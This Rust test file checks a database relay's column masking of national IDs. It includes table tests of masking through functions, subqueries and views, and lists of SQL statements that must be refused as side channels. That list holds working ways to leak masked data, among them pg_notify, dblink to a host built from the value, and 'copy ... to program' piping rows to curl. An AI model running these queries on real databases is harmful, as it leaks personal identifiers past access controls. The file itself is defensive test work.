//! Table tests of column lineage, through the real masking engine: each
//! result is labelled by `apply_lineage` and then planned and masked by
//! core exactly as the relay does.

use super::*;
use sluice_core::masking::{compile, EngineMasker, MaskingConfig, ResponseMasker};
use sluice_core::{Identity, Protocol};
use std::time::{Duration, SystemTime};

const RULES: &str = r#"
[[columns]]
name = "national-ids"
columns = ["customers.national_id", "public.users.ssn"]
style = "redact"
"#;

fn masker(rules: &str) -> EngineMasker {
    let config: MaskingConfig = sluice_core::toml::from_str(rules).unwrap();
    EngineMasker::new(compile(&config, None).unwrap())
}

fn session() -> SessionInfo {
    SessionInfo {
        id: "s1".into(),
        identity: Identity {
            subject: "agent".into(),
            groups: vec!["agents".into()],
            issuer: "sluice".into(),
            token_id: "t".into(),
            expires_at: SystemTime::now() + Duration::from_secs(600),
            connections: None,
        },
        connection: "appdb".into(),
        protocol: Protocol::Postgres,
        client_addr: "127.0.0.1:1".into(),
    }
}

/// Result columns as the relay builds them from a RowDescription:
/// `table.column` for a plain reference (the catalog's `public.table`),
/// `table.` for a whole-row reference (attribute 0), `?` for a computed
/// column (table OID 0), `?name` for a computed column so named.
fn columns(spec: &str) -> Vec<Column> {
    spec.split_whitespace()
        .enumerate()
        .map(|(i, c)| {
            let (table, source, oid, attnum) = match c.split_once('.') {
                Some((t, "")) => (Some(format!("public.{t}")), None, 16400, 0),
                Some((t, col)) => (Some(format!("public.{t}")), Some(col.to_owned()), 16400, 1),
                None => (None, None, 0, 0),
            };
            let name = match c.strip_prefix('?') {
                Some(n) if !n.is_empty() => n.to_owned(),
                _ => format!("c{i}"),
            };
            Column {
                name,
                table_oid: oid,
                column_number: attnum,
                type_oid: 25,
                binary: false,
                table,
                source_column: source,
            }
        })
        .collect()
}

/// Which columns the engine masks after lineage: `M` masked, `.` kept.
fn masked(sql: &str, spec: &str) -> Result<String, String> {
    let m = masker(RULES);
    let s = session();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: None,
    };
    let mut cols = columns(spec);
    apply_lineage(sql, &mut cols, &rules)?;
    let Some(mut rows) = m.plan(&s, &cols) else {
        return Ok(".".repeat(cols.len()));
    };
    let mut row: Vec<Option<Vec<u8>>> = cols.iter().map(|_| Some(b"v".to_vec())).collect();
    rows.mask_row(&mut row);
    Ok(row
        .iter()
        .map(|v| if v.as_deref() == Some(b"v") { '.' } else { 'M' })
        .collect())
}

/// (statement, the result's columns, which must be masked).
const MASKED: &[(&str, &str, &str)] = &[
    // functions, operators, casts, COLLATE, CASE
    ("select reverse(national_id) from customers", "?", "M"),
    ("select national_id || '' from customers", "?", "M"),
    ("select substr(c.national_id, 1, 3) from customers c", "?", "M"),
    ("select c.national_id::text from customers as c", "?", "M"),
    ("select cast(national_id as varchar(3)) x from public.customers", "?", "M"),
    ("select national_id collate \"C\" from customers", "?", "M"),
    ("select case when true then national_id end from customers", "?", "M"),
    ("select case national_id when '1' then 'a' else 'b' end from customers", "?", "M"),
    ("select coalesce(null, national_id) from customers", "?", "M"),
    ("select format('%s', national_id) from customers", "?", "M"),
    ("select encode(convert_to(national_id, 'UTF8'), 'base64') from customers", "?", "M"),
    ("select md5(national_id) from customers", "?", "M"),
    ("select (national_id)::int from customers", "?", "M"),
    ("select length(national_id) from customers", "?", "M"),
    ("select public.count(national_id) from customers", "?", "M"),
    ("select \"national_id\" || 'x' from \"customers\"", "?", "M"),
    ("select customers.national_id || '' from customers", "?", "M"),
    ("select public.customers.national_id || '' from public.customers", "?", "M"),
    // aggregates and window functions
    ("select string_agg(national_id, ',') from customers", "?", "M"),
    ("select array_agg(national_id order by id) from customers", "?", "M"),
    ("select max(national_id) from customers", "?", "M"),
    ("select mode() within group (order by national_id) from customers", "?", "M"),
    ("select lag(national_id) over (order by id) from customers", "?", "M"),
    ("select first_value(national_id) over w from customers window w as (order by id)", "?", "M"),
    // whole rows and JSON / row constructors
    ("select row_to_json(c) from customers c", "?", "M"),
    ("select to_jsonb(c.*) from customers c", "?", "M"),
    ("select json_agg(c) from customers c", "?", "M"),
    ("select c::text from customers c", "?", "M"),
    ("select row(c.*)::text from customers c", "?", "M"),
    ("select jsonb_build_object('a', national_id) from customers", "?", "M"),
    ("select (c).national_id from customers c", "?", "M"),
    ("select c.row_to_json from customers c", "?", "M"),
    ("select customers.json_agg from customers", "?", "M"),
    ("select c.concat from customers c", "?", "M"),
    ("select c.quote_literal from customers c", "?", "M"),
    ("select (c.*)::text from customers c", "?", "M"),
    ("select array[c.*] from customers c", "?", "M"),
    ("select c, id from customers c", "customers. customers.id", "M."),
    ("select row_to_json(customers) from customers", "?", "M"),
    // subqueries, CTEs, LATERAL, joins
    ("select (select national_id from customers limit 1)", "?", "M"),
    ("select array(select national_id from customers)", "?", "M"),
    ("select x from (select reverse(national_id) x from customers) s", "?", "M"),
    ("select s.x from (select national_id || '' from customers) s(x)", "?", "M"),
    ("with t as (select national_id n from customers) select upper(n) from t", "?", "M"),
    ("with t(n) as (select national_id from customers) select t.n || '' from t", "?", "M"),
    ("select x.n from (select * from (select reverse(national_id) n from customers) a) x", "?", "M"),
    ("select u.v from customers c, lateral (select reverse(c.national_id) v) u", "?", "M"),
    ("select unnest(array[national_id]) from customers", "?", "M"),
    ("select reverse(t.z) from (table customers) t(x, y, z)", "?", "M"),
    ("with t(x, y, z) as (select * from customers) select reverse(z) from t", "?", "M"),
    ("with t(n) as (select national_id from customers) select x.n || '' from t as x", "?", "M"),
    ("select x from customers c cross join lateral (values (c.national_id)) v(x)", "?", "M"),
    ("select v.* from customers c, lateral (select c.national_id || '') v", "?", "M"),
    (
        "select * from json_populate_record(null::customers, (select row_to_json(c) from customers c limit 1))",
        "? ? ?",
        "MMM",
    ),
    ("select j.value from customers c, jsonb_each_text(to_jsonb(c)) j", "?", "M"),
    ("select reverse(national_id) from customers c join orders o using (id)", "?", "M"),
    ("select upper(j.national_id) from (customers c join orders o on true) j", "?", "M"),
    ("select s.n || '' from (select national_id as n from customers) s join orders o on true", "?", "M"),
    (
        "with recursive r(x) as (select national_id from customers union all select x || '' from r where false) select reverse(x) from r",
        "?",
        "M",
    ),
    (
        "with recursive a as (select * from b), b as (select national_id from customers) select reverse(national_id) from a",
        "?",
        "M",
    ),
    ("select (select reverse(x) from (select c.national_id x) q) from customers c", "?", "M"),
    ("select (select national_id) from customers", "?", "M"),
    ("select reverse(x) from unnest((select array_agg(national_id) from customers)) x", "?", "M"),
    ("select * from rows from (unnest(array(select national_id from customers)))", "?", "M"),
    ("select xmlelement(name x, national_id) from customers", "?", "M"),
    ("select json_object('a': national_id) from customers", "?", "M"),
    ("select jsonb_path_query(to_jsonb(c), '$.national_id') from customers c", "?", "M"),
    ("select (t).f1 from (select row(national_id) as t from customers) s", "?", "M"),
    ("select s.c from (select c from customers c) s", "customers.", "M"),
    ("select reverse(national_id) from customers for update", "?", "M"),
    ("select distinct reverse(national_id) from customers", "?", "M"),
    ("select hstore(c) from customers c", "?", "M"),
    ("with x as materialized (select national_id from customers) select x.national_id || '' from x", "?", "M"),
    // (specs below as PostgreSQL 15 describes them)
    (
        "select * from customers natural join (select id, national_id || '' as x from customers) s",
        "customers.id customers.name customers.national_id ?",
        "..MM",
    ),
    ("select upper(d.national_id) from customers c, lateral (select c.*) d", "?", "M"),
    (
        "select r.national_id || '' from (select c from customers c) s, lateral (select (s.c).*) r",
        "?",
        "M",
    ),
    (
        "select * from jsonb_to_record((select to_jsonb(c) from customers c limit 1)) as x(national_id text)",
        "?",
        "M",
    ),
    ("select percentile_disc(0.5) within group (order by national_id) from customers", "?", "M"),
    ("select national_id from customers intersect select national_id from customers", "?", "M"),
    ("select (regexp_match(national_id, '(\\d+)'))[1] from customers", "?", "M"),
    ("select translate(national_id, '0123456789', 'abcdefghij') from customers", "?", "M"),
    ("select xmlforest(national_id) from customers", "?", "M"),
    // set operations and VALUES (the server names no source)
    ("select reverse(national_id) from customers union all select reverse(name) from customers", "?", "M"),
    ("select national_id from customers union select 'x'", "?", "M"),
    // `*` in a set operation: the first branch names the columns.
    (
        "select * from customers union all select * from customers_archive",
        "?id ?name ?national_id",
        "..M",
    ),
    (
        // Positions in a later branch are not named: any column may be there.
        "select * from customers_archive union all select * from customers",
        "?id ?name ?national_id",
        "MMM",
    ),
    (
        "select 1, 'a', 'b' union all select * from customers",
        "?c1 ?c2 ?c3",
        "MMM",
    ),
    (
        "select * from (table customers) t(x, y, z) union all select 1, 'a', 'b'",
        "?x ?y ?z",
        "MMM",
    ),
    ("select 'x' union all select national_id from customers", "?", "M"),
    ("select id, name from orders except select id, national_id from customers", "? ?", ".M"),
    ("values ((select national_id from customers limit 1))", "?", "M"),
    ("select * from (values ((select national_id from customers limit 1))) v(a)", "?", "M"),
    // `*` aligned with the RowDescription
    (
        "select * from (select id, reverse(national_id) r from customers) s",
        "customers.id ?",
        ".M",
    ),
    (
        "select c.*, reverse(c.name), upper(c.national_id) from customers c",
        "customers.id customers.name customers.national_id ? ?",
        "..M.M",
    ),
    (
        "select c.*, o.*, o.total * 2 from customers c join orders o on o.customer_id = c.id",
        "customers.id customers.name customers.national_id orders.id orders.customer_id orders.total ?",
        "..M....",
    ),
    (
        "select *, reverse(national_id) from customers c, generate_series(1, 2) g",
        "customers.id customers.name customers.national_id ? ?",
        "..M.M",
    ),
    (
        "select * from (select national_id || '' as n from customers) s, orders o",
        "? orders.id orders.total",
        "M..",
    ),
    // RETURNING
    ("update customers set name = 'x' where id = 1 returning reverse(national_id)", "?", "M"),
    ("delete from customers c where id = 1 returning row_to_json(c)", "?", "M"),
    ("insert into customers (name) values ('x') returning national_id || ''", "?", "M"),
    // a statement the cursor or prepared statement was declared with
    ("declare k cursor for select reverse(national_id) from customers", "?", "M"),
    ("prepare p as select reverse(national_id) from customers", "?", "M"),
    // a computed column no alignment explains: every ruled column in scope
    ("select reverse(national_id), name from customers", "? ? ?", "MMM"),
    // Alignment ignores what the server said only when nothing else fits.
    ("select *, 1 from customers", "?id ?name ?national_id ?x", "..M."),
];

/// Legitimate queries whose results must stay untouched.
const KEPT: &[(&str, &str, &str)] = &[
    ("select id, name from customers", "customers.id customers.name", ".."),
    ("select count(*) from customers", "?", "."),
    ("select count(national_id) from customers", "?", "."),
    ("select count(distinct national_id) from customers", "?", "."),
    ("select pg_catalog.count(national_id) from customers", "?", "."),
    ("select o.customer_id, sum(o.total) from orders o group by 1", "orders.customer_id ?", ".."),
    (
        "select c.name, count(o.id), max(o.total) from customers c join orders o on o.customer_id = c.id group by c.name",
        "customers.name ? ?",
        "...",
    ),
    ("select upper(name) from customers where national_id like '1%'", "?", "."),
    ("select name from customers order by national_id", "customers.name", "."),
    ("select now(), 1 + 1, 'x'", "? ? ?", "..."),
    ("select row_number() over (partition by national_id order by id) from customers", "?", "."),
    ("select exists(select 1 from customers where national_id = 'x')", "?", "."),
    ("select name || '!' from customers", "?", "."),
    ("select * from orders", "orders.id orders.customer_id orders.total", "..."),
    ("with t as (select id, name from customers) select upper(name) from t", "?", "."),
    ("select x from (select national_id, upper(name) x from customers) s", "?", "."),
    ("select s.x from (select national_id, name as x from customers) s", "customers.name", "."),
    ("select row_to_json(o) from orders o", "?", "."),
    ("select json_agg(o) from orders o join customers c on c.id = o.customer_id", "?", "."),
    ("select o.total * 2 from orders o join customers c on c.id = o.customer_id", "?", "."),
    ("select name from customers union select name from users", "?", "."),
    ("update orders set total = total + 1 returning total", "?", "."),
    ("show search_path", "?", "."),
    ("explain select reverse(national_id) from customers", "?", "."),
    ("select 1; select 2", "?", "."),
    ("select (select max(total) from orders o where o.customer_id = c.id) from customers c", "?", "."),
    ("select (select count(*) from orders o where o.customer_id = c.id) from customers c", "?", "."),
    ("select upper(name) from customers where id in (select customer_id from orders)", "?", "."),
    (
        "with customers as (select name as national_id from customers) select reverse(national_id) from customers",
        "?",
        ".",
    ),
];

#[test]
fn computed_columns_follow_their_sources() {
    let mut failures = Vec::new();
    for (sql, spec, expected) in MASKED.iter().chain(KEPT) {
        match masked(sql, spec) {
            Ok(got) if got == *expected => {}
            other => failures.push(format!("{sql}\n    expected {expected}, got {other:?}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn indirect_results_with_computed_columns_are_refused() {
    let err = masked("fetch 10 from k", "?").unwrap_err();
    assert!(err.contains("FETCH"), "{err}");
    assert!(masked("execute p", "?").unwrap_err().contains("EXECUTE"));
    // Plain columns are named by the server itself: nothing to follow.
    assert_eq!(
        masked("fetch 10 from k", "customers.national_id customers.id").unwrap(),
        "M."
    );
    // Unparseable text cannot be judged.
    assert!(masked("select reverse(", "?").is_err());
}

#[test]
fn nothing_happens_without_column_rules() {
    let m = masker("");
    let s = session();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: None,
    };
    let mut cols = columns("?");
    apply_lineage(
        "select reverse(national_id) from customers",
        &mut cols,
        &rules,
    )
    .unwrap();
    assert_eq!(cols, columns("?"));
    assert!(side_channel("select pg_notify('c', national_id) from customers", &rules).is_ok());
    assert!(!references_ruled(
        "select national_id::int from customers",
        &rules
    ));
}

#[test]
fn a_glob_rule_masks_whole_rows_of_the_tables_it_names() {
    let m = masker(
        r#"
        [[columns]]
        columns = ["*.password*"]
        "#,
    );
    let s = session();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: None,
    };
    let mut cols = columns("? ?");
    apply_lineage(
        "select row_to_json(u), upper(u.name) from users u",
        &mut cols,
        &rules,
    )
    .unwrap();
    let mut rows = m.plan(&s, &cols).unwrap();
    let mut row = vec![Some(b"{}".to_vec()), Some(b"ANN".to_vec())];
    rows.mask_row(&mut row);
    assert_ne!(row[0].as_deref(), Some(&b"{}"[..]));
    assert_eq!(row[1].as_deref(), Some(&b"ANN"[..]));
}

const SIDE_CHANNELS: &[&str] = &[
    "create function f() returns void language plpgsql as \
     $$ declare v text; begin v := (select national_id from customers limit 1); \
     insert into log values (v); end $$",
    "create function leak() returns trigger language plpgsql as \
     $$ begin insert into log select national_id from customers; return new; end $$",
    // A trigger's function sees the masked column in NEW and OLD.
    "create trigger t after update on customers for each row execute function f()",
    "select pg_notify('c', national_id) from customers",
    "select pg_catalog.pg_notify('c', c::text) from customers c",
    "select 1 from customers where pg_notify('c', national_id) is null",
    "select set_config('my.v', national_id, false) from customers",
    "select setval('s', length(national_id)) from customers",
    "select pg_advisory_lock(hashtext(national_id)) from customers",
    "select dblink_connect('host=' || national_id || '.example.com')  from customers",
    "select lo_from_bytea(0, convert_to(national_id, 'UTF8')) from customers",
    "insert into orders (note) select national_id from customers",
    "insert into audit select * from customers",
    "insert into audit values ((select national_id from customers limit 1))",
    "with x as (select national_id from customers) insert into log select * from x",
    "update orders set note = (select national_id from customers limit 1)",
    "update customers set name = national_id",
    "update orders o set note = c.national_id from customers c where c.id = o.customer_id",
    "insert into customers (id, name) values (1, 'x') on conflict (id) do update set name = excluded.national_id",
    "merge into orders o using customers c on o.customer_id = c.id when matched then update set note = c.national_id",
    "merge into orders o using customers c on o.customer_id = c.id when not matched then insert (note) values (c.national_id)",
    "create table x as select reverse(national_id) from customers",
    "create materialized view x as select national_id from customers",
    "select national_id into x from customers",
    "create view v as select national_id from customers",
    "create view v as select * from customers",
    "copy (select national_id from customers) to stdout",
    "copy customers to '/tmp/x'",
    "copy customers (national_id) to stdout",
    "select * from pg_stats where tablename = 'customers'",
    "select most_common_vals from pg_catalog.pg_stats",
    "select * from pg_statistic",
    "do $$ begin raise notice '%', (select national_id from customers limit 1); end $$",
    "do $$ declare r record; begin for r in select * from customers loop raise notice '%', r; end loop; end $$",
    "do language plpython3u $$ plpy.notice('x') $$",
    "create function f() returns setof text language sql as 'select national_id from customers'",
    "create function f() returns text language sql return (select national_id from customers limit 1)",
    "create function f() returns void language plpgsql as $$ begin perform pg_notify('c', (select national_id from customers limit 1)); end $$",
    "create rule r as on insert to orders do also insert into log select national_id from customers",
    "select query_to_xml('select national_id from customers', true, true, '')",
    "select table_to_xml('customers', true, true, '')",
    "select ts_rewrite('x'::tsquery, $q$select 'x'::tsquery, quote_literal(national_id)::tsquery from customers$q$)",
    "select * from crosstab('select id, name, national_id from customers') as t(id int, a text)",
    "select * from connectby('customers', 'id', 'parent', '1', 0) as t(id int, parent int, level int)",
    "execute s((select national_id from customers limit 1))",
    "create table x as execute s",
    "call p((select national_id from customers limit 1))",
    "select pg_notify('c', (select national_id from customers limit 1))",
    "copy (select * from customers) to program 'curl -d @- example.com'",
    "prepare p as insert into log select national_id from customers",
    "explain analyze insert into log select national_id from customers",
    "create table log as table customers",
    "select * into temp t from customers",
];

const NOT_SIDE_CHANNELS: &[&str] = &[
    // A trigger function is read through its variables.
    "create function stamp() returns trigger language plpgsql as \
     $$ begin new.updated := now(); insert into log values (tg_op); return new; end $$",
    "create trigger t after insert on orders for each row execute function f()",
    "select national_id from customers",
    "select reverse(national_id) from customers",
    "update customers set national_id = upper(national_id)",
    "insert into customers (national_id) select national_id from customers",
    "update customers set name = 'x' where national_id = '1'",
    "insert into orders (customer_id, total) values (1, 2)",
    "insert into orders select * from orders",
    "notify ch, 'hello'",
    "select pg_notify('c', name) from customers",
    "create table x as select id, name from customers",
    "create view v as select id, name from customers",
    "do $$ begin raise notice 'hi'; end $$",
    "do $$ begin perform count(*) from customers; end $$",
    "select * from pg_stat_activity",
    "copy orders to stdout",
    "copy customers (id, name) to stdout",
    "copy customers from stdin",
    "create function f(a int) returns int language sql as 'select a + 1'",
    "create function f() returns int language plpgsql as $$ begin return 1; end $$",
    "explain select * from customers",
    "fetch 10 from k",
    "set search_path = public",
    "begin",
    "insert into orders (customer_id, total) select id, 10 from customers where national_id = 'x'",
    "update orders set total = 0 where customer_id in (select id from customers where national_id like '1%')",
    "create table x as select id from customers where national_id is not null",
    "declare k cursor for select national_id from customers",
    "prepare p as select reverse(national_id) from customers",
];

#[test]
fn side_channels_of_ruled_columns_are_refused() {
    let m = masker(RULES);
    let s = session();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: None,
    };
    let mut failures = Vec::new();
    for sql in SIDE_CHANNELS {
        if side_channel(sql, &rules).is_ok() {
            failures.push(format!("allowed: {sql}"));
        }
    }
    for sql in NOT_SIDE_CHANNELS {
        if let Err(e) = side_channel(sql, &rules) {
            failures.push(format!("refused: {sql}: {e}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let e = side_channel("select pg_notify('c', national_id) from customers", &rules).unwrap_err();
    assert!(
        e.contains("pg_notify") && e.contains("customers.national_id"),
        "{e}"
    );
}

#[test]
fn catalog_routines_that_may_read_ruled_columns_are_refused() {
    use crate::sql::resolve::{function_context, view_context};
    let m = masker(RULES);
    let s = session();
    let views = Arc::new(HashMap::from([(
        "ids".to_string(),
        Arc::from(" SELECT customers.national_id FROM customers;"),
    )]));
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: Some(&views),
    };
    let plpgsql = |body: &str| {
        format!(
            "CREATE OR REPLACE FUNCTION public.f()\n RETURNS SETOF text\n LANGUAGE plpgsql\n\
             AS $function$ {body} $function$\n"
        )
    };
    let function =
        |language: &str, body: &str| function_context("public", "f", language, "v", body);
    let refused = [
        function("sql", "select reverse(national_id) from customers"),
        function("sql", "select * from customers"),
        function("sql", "select x from ids x"),
        function("sql", "select ts_rewrite('a'::tsquery, 'select 1')"),
        function(
            "plpgsql",
            &plpgsql("begin return query select national_id from customers; end"),
        ),
        // SQL built at run time: what it reads is not in the body.
        function(
            "plpgsql",
            &plpgsql(
                "begin return query execute 'select reverse(national_id) from customers'; end",
            ),
        ),
        function("c", ""),
        function("plpython3u", "return plpy.execute('select 1')"),
        // An aggregate: no body to read.
        function("internal", ""),
        function("sql", ""),
        // A user function named like a built-in masking trusts to return
        // no values: the server may call it for `count(national_id)`.
        function_context("public", "count", "sql", "i", "select reverse($1)"),
    ];
    let allowed = [
        function("sql", "select count(*) from customers"),
        function("sql", "select name from customers where id = $1"),
        function(
            "plpgsql",
            &plpgsql("begin return query select email from customers; end"),
        ),
        view_context(
            "public",
            "v",
            " SELECT customers.national_id FROM customers;",
        ),
        "s1\0select 1".to_string(),
        // The server's own functions (of a newer version than the list of
        // built-ins) are judged by name.
        function_context("pg_catalog", "any_value", "internal", "i", ""),
    ];
    let mut failures = Vec::new();
    for entry in &refused {
        if catalog_side_channel(std::slice::from_ref(entry), &rules).is_ok() {
            failures.push(format!("allowed: {entry:?}"));
        }
    }
    for entry in &allowed {
        if let Err(e) = catalog_side_channel(std::slice::from_ref(entry), &rules) {
            failures.push(format!("refused: {entry:?}: {e}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let e = catalog_side_channel(&[function("c", "")], &rules).unwrap_err();
    assert!(e.contains("public.f()") && e.contains("a c routine"), "{e}");
    // Without column rules on the connection, routines are the policy's
    // business alone.
    let none = masker("");
    let rules = SessionRules {
        masker: &none,
        session: &s,
        views: None,
    };
    assert!(catalog_side_channel(&refused, &rules).is_ok());
}

#[test]
fn statements_that_read_ruled_columns_are_known() {
    let m = masker(RULES);
    let s = session();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: None,
    };
    for sql in [
        "select national_id::int from customers",
        "select 1 from customers where national_id::int = 1",
        "select * from customers",
        "select c from customers c",
        "select 1 from (select national_id x from customers) s where x::int > 0",
        "select reverse(",
        // A failed constraint quotes the whole new row.
        "update customers set name = null where id = 1",
        "insert into customers (id, name) values (1, null)",
    ] {
        assert!(references_ruled(sql, &rules), "{sql}");
    }
    for sql in [
        "select name::int from customers",
        "select 1",
        "select * from orders",
        "update orders set total = null",
    ] {
        assert!(!references_ruled(sql, &rules), "{sql}");
    }
}

#[test]
fn analyses_are_cached_by_text() {
    let sql = "select reverse(national_id) /* cache */ from customers";
    let a = analyse(sql).unwrap();
    let b = analyse(sql).unwrap();
    assert!(Arc::ptr_eq(&a, &b));
    // Deep nesting fails closed rather than overflowing.
    let deep = format!("select {}1{}", "lower(".repeat(300), ")".repeat(300));
    assert!(analyse(&deep).is_err());
    // Nested recursive CTEs cannot multiply the work without bound.
    let mut nested = "select national_id from customers".to_owned();
    for i in 0..8 {
        nested = format!(
            "with recursive r{i}(x) as (select x from ({nested}) s(x) union all select x || '' from r{i}) select x from r{i}"
        );
    }
    let started = std::time::Instant::now();
    let result = analyse(&nested);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    match result {
        Ok(l) => assert!(matches!(l.statements.as_slice(), [Output::Rows(_)])),
        Err(e) => assert!(e.contains("too complex"), "{e}"),
    }
}

#[test]
fn views_are_followed_to_their_base_tables() {
    let m = masker(RULES);
    let s = session();
    let views: HashMap<String, Arc<str>> = [
        (
            "people".to_owned(),
            Arc::from("SELECT c.id, c.national_id AS nid, c.name FROM customers c"),
        ),
        ("people2".to_owned(), Arc::from("SELECT * FROM people")),
        (
            "ids".to_owned(),
            Arc::from("SELECT reverse(national_id) AS r FROM customers"),
        ),
    ]
    .into_iter()
    .collect();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: Some(&views),
    };
    let run = |sql: &str, spec: &str| {
        let mut cols = columns(spec);
        apply_lineage(sql, &mut cols, &rules).unwrap();
        let mut rows = m.plan(&s, &cols).unwrap();
        let mut row: Vec<Option<Vec<u8>>> = cols.iter().map(|_| Some(b"v".to_vec())).collect();
        rows.mask_row(&mut row);
        row.iter()
            .map(|v| if v.as_deref() == Some(b"v") { '.' } else { 'M' })
            .collect::<String>()
    };
    // A plain column of a view (the server names the view).
    assert_eq!(
        run(
            "select id, nid, name from people",
            "people.id people.nid people.name"
        ),
        ".M."
    );
    assert_eq!(run("select nid from people2", "people2.nid"), "M");
    // Computed over a view, and a view's computed column.
    assert_eq!(
        run("select reverse(nid), upper(name) from people", "? ?"),
        "M."
    );
    assert_eq!(run("select row_to_json(p) from people p", "?"), "M");
    assert_eq!(run("select r from ids", "ids.r"), "M");
    assert!(side_channel("insert into log select nid from people", &rules).is_err());
    assert!(side_channel("insert into log select name from people", &rules).is_ok());
    // Views built on views many times over are followed once per column.
    let mut fan: HashMap<String, Arc<str>> = HashMap::new();
    fan.insert("v0".into(), Arc::from("SELECT name FROM customers"));
    for i in 1..40 {
        let from: Vec<String> = (0..6).map(|j| format!("v{} a{j}", i - 1)).collect();
        fan.insert(
            format!("v{i}"),
            Arc::from(format!(
                "SELECT a0.name || a1.name AS name FROM {}",
                from.join(", ")
            )),
        );
    }
    let fan_rules = SessionRules {
        masker: &m,
        session: &s,
        views: Some(&fan),
    };
    let started = std::time::Instant::now();
    let mut cols = columns("?");
    apply_lineage("select row_to_json(v) from v39 v", &mut cols, &fan_rules).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(cols, columns("?"));
    assert_eq!(
        relations("select * from people p join orders o on true").unwrap(),
        BTreeSet::from(["people".to_owned(), "orders".to_owned()])
    );
}

#[test]
fn one_statement_of_several() {
    let m = masker(RULES);
    let s = session();
    let rules = SessionRules {
        masker: &m,
        session: &s,
        views: None,
    };
    let sql = "select reverse(national_id) from customers; select upper(name) from customers";
    let labelled = |statement: Option<usize>| {
        let mut cols = columns("?");
        apply_lineage_at(sql, statement, &mut cols, &rules).unwrap();
        cols[0].source_column.clone()
    };
    assert_eq!(labelled(Some(0)).as_deref(), Some("national_id"));
    assert_eq!(labelled(Some(1)), None);
    // Not knowing which: either may have produced it.
    assert_eq!(labelled(None).as_deref(), Some("national_id"));
}
